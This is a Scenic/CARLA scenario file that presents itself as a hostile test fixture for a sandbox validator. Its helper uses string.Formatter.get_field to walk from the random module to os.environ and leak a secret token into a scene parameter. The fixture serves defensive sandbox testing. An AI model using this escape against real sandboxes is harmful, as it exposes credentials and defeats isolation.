# Hostile test script for arise's sandbox: never run it outside tests/validate/test_hostile.py.
# fmt_formatter_get_field (format_string): string.Formatter (through errors.pdb.cmd.string) get_field walks '0._os.environ' from random; the token leaks as a scene parameter.
# The payload runs inside a plain `def` helper.
# @CANARY@, @SECRET@, @SSH_KEY@, @PORT@ ... are filled in by the test (see manifest.yaml).
Town = 'arise_straight'
param map = localPath(f'maps/{Town}.xodr')
param carla_map = Town
model scenic.simulators.carla.model
import random
import scenic.simulators.carla.simulator as carla_sim

def environment_token():
    formatter = carla_sim.errors.pdb.cmd.string.Formatter()
    environ, _ = formatter.get_field('0._os.environ', (random,), {})
    return environ['ARISE_HOSTILE_TOKEN']

param stolen = environment_token()

egoLane = Uniform(*network.lanes)
ego = new Car on egoLane.centerline, with blueprint "vehicle.lincoln.mkz_2017", with behavior FollowLaneBehavior(target_speed=8)
